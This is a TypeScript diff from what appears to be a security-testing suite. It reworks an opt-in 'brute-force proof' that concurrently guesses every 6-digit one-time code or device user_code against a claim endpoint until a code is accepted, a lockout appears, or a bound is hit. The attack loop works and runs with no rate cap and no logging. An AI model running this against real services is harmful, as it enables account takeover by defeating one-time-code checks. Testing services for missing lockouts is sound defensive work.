@@ -1,12 +1,10 @@
-import { RequestBudget } from "../http/budget.ts";
-import { HttpClient, type HttpResponse } from "../http/client.ts";
-import { Redactor } from "../http/redact.ts";
 import { waiting } from "../suite/progress.ts";
+import type { AttackClient } from "./attack-client.ts";
 
 /**
- * The OTP exhaustion proof (--prove-otp-bruteforce): guess every 6-digit code of one claim until
- * it falls, the service locks the attempt, or a bound is reached. Opt-in attack mode; the caller
- * gives it its own client and budget.
+ * The code exhaustion proofs (--prove-otp-bruteforce): guess every 6-digit code of one claim (the
+ * v0.1 OTP, the v0.7 user_code) until it falls, the service locks the attempt, or a bound is
+ * reached. Opt-in attack mode; the caller gives it its own raw client (attack-client.ts).
  */
 
 export const OTP_SPACE = 1_000_000;
@@ -49,15 +47,17 @@ export function guessOrder(sample: readonly string[], seed: number): Uint32Array
 }
 
 export interface BruteforceOptions {
-  /** A client with its own budget (the run's budget and rate do not apply to the attack). */
-  http: HttpClient;
-  completeUrl: string;
-  claimToken: string;
+  /** The raw path to the form action or endpoint (own pool, nothing recorded; the run's budget and rate do not apply). */
+  client: AttackClient;
+  /** The fixed request body for one guess (the code as 6 digits). */
+  body: (code: string) => string;
   order: Uint32Array;
   maxAttempts: number;
   /** Epoch ms: the earlier of the time bound and the code's expiry. */
   deadline: number;
   concurrency: number;
+  /** What is guessed, for the progress line ("OTP", "user_code"). */
+  label?: string;
 }
 
 export interface BruteforceResult {
@@ -66,7 +66,7 @@ export interface BruteforceResult {
   elapsedMs: number;
   requestsPerSecond: number;
   stoppedBy: "found" | "locked" | "max-attempts" | "time" | "error";
-  /** The answer that stopped the search (status and error code). */
+  /** The answer that stopped the search (status and error code or page title). */
   stopAnswer?: string;
   /** The first answer to a wrong guess, which every other wrong guess got too. */
   wrongAnswer?: string;
@@ -74,49 +74,80 @@ export interface BruteforceResult {
   foundAtGuess?: number;
 }
 
-function signature(res: HttpResponse): string {
-  const body = res.json as { error?: unknown } | undefined;
-  return `${res.status}${typeof body?.error === "string" ? ` ${body.error}` : ""}`;
+/**
+ * What an answer says, without what varies between two identical answers: the status and the
+ * JSON `error`, else the HTML <title>, else the status alone.
+ */
+export function answerSignature(status: number, text: string): string {
+  const head = text.trimStart();
+  if (head.startsWith("{")) {
+    try {
+      const error = (JSON.parse(head) as { error?: unknown }).error;
+      return typeof error === "string" ? `${status} ${error}` : `${status}`;
+    } catch {
+      return `${status}`;
+    }
+  }
+  const title = /<title[^>]*>([^<]*)<\/title>/i.exec(text)?.[1]?.trim();
+  return title ? `${status} ${title}` : `${status}`;
 }
 
-export async function bruteforceOtp(options: BruteforceOptions): Promise<BruteforceResult> {
+/**
+ * Guess codes in `order` until one is taken (a 2xx unlike the wrong-code answer), the answer
+ * changes (a lockout, an expiry, a 429), or a bound is reached. `concurrency` guesses in flight
+ * on the attack client's own pool; bookkeeping is a counter, and an answer whose text equals the
+ * last wrong one is judged without parsing.
+ */
+export async function bruteforceCodes(options: BruteforceOptions): Promise<BruteforceResult> {
   const started = performance.now();
   let next = 0;
   let attempts = 0;
-  let stop: Pick<BruteforceResult, "stoppedBy" | "stopAnswer" | "foundAtGuess"> | undefined;
+  type Stop = Pick<BruteforceResult, "stoppedBy" | "stopAnswer" | "foundAtGuess">;
+  let stop: Stop | undefined;
   let wrongAnswer: string | undefined;
+  let wrongText: string | undefined;
   const limit = Math.min(options.maxAttempts, options.order.length);
-  waiting(`OTP brute-force proof: up to ${limit.toLocaleString("en-US")} guesses, ${options.concurrency} at a time`, options.deadline - Date.now());
+  const { client, body, order, deadline } = options;
+  waiting(`${options.label ?? "OTP"} brute-force proof: up to ${limit.toLocaleString("en-US")} guesses, ${options.concurrency} at a time`, deadline - Date.now());
 
   const worker = async (): Promise<void> => {
-    while (!stop) {
+    while (stop === undefined) {
       if (next >= limit) {
         stop ??= { stoppedBy: "max-attempts" };
         return;
       }
-      if (Date.now() >= options.deadline) {
+      if (Date.now() >= deadline) {
         stop ??= { stoppedBy: "time" };
         return;
       }
       const index = next++;
-      const guess = String(options.order[index]).padStart(6, "0");
-      let res: HttpResponse;
+      const code = String(order[index]).padStart(6, "0");
+      let status: number;
+      let text: string;
       try {
-        res = await options.http.postJson(options.completeUrl, { claim_token: options.claimToken, otp: guess });
+        ({ status, text } = await client.post(body(code)));
       } catch (err) {
         stop ??= { stoppedBy: "error", stopAnswer: (err as Error).message };
         return;
       }
       attempts++;
-      if (stop) return;
-      if (res.status >= 200 && res.status < 300) {
-        stop = { stoppedBy: "found", foundAtGuess: index + 1 };
+      if (text === wrongText) continue;
+      const sig = answerSignature(status, text);
+      // A hit wins over a stop already seen: guesses sent after the right one can come back first
+      // ("already claimed") while the service is still completing the claim.
+      if (status >= 200 && status < 300 && sig !== wrongAnswer) {
+        // (The cast undoes TypeScript's narrowing: other workers set `stop` during the await.)
+        if ((stop as Stop | undefined)?.stoppedBy !== "found") stop = { stoppedBy: "found", foundAtGuess: index + 1, stopAnswer: sig };
         return;
       }
-      const sig = signature(res);
-      wrongAnswer ??= sig;
-      // Any answer other than the plain "wrong code" one means the attempt is no longer open.
-      if (sig !== wrongAnswer) stop ??= { stoppedBy: "locked", stopAnswer: sig };
+      if (stop !== undefined) return;
+      if (wrongAnswer === undefined) {
+        wrongAnswer = sig;
+        wrongText = text;
+      } else if (sig !== wrongAnswer) {
+        // Any answer other than the plain "wrong code" one means the attempt is no longer open.
+        stop = { stoppedBy: "locked", stopAnswer: sig };
+      }
     }
   };
   await Promise.all(Array.from({ length: Math.max(1, options.concurrency) }, worker));
@@ -129,26 +160,6 @@ export async function bruteforceOtp(options: BruteforceOptions): Promise<Brutefo
     ...(stop ?? { stoppedBy: "max-attempts" as const }),
     ...(wrongAnswer ? { wrongAnswer } : {}),
   };
-}
-
-/** A client for the attack only: the run's allowlist and timeouts, its own budget, no rate cap, no log. */
-export function createAttackClient(options: {
-  requestTimeoutMs: number;
-  maxBodyBytes: number;
-  allowedOrigins: readonly string[];
-  headers: Record<string, string>;
-  maxAttempts: number;
-}): HttpClient {
-  return new HttpClient({
-    requestTimeoutMs: options.requestTimeoutMs,
-    maxBodyBytes: options.maxBodyBytes,
-    allowedOrigins: new Set(options.allowedOrigins),
-    defaultHeaders: options.headers,
-    budget: new RequestBudget(options.maxAttempts + 1, Number.MAX_SAFE_INTEGER),
-    // Its own redactor, and never consulted: a client without a log redacts nothing, so the
-    // million guessed codes are never remembered as secrets of the run.
-    redactor: new Redactor(),
-  });
 }
 
 /** What the proof shows, in one sentence the report leads with. */
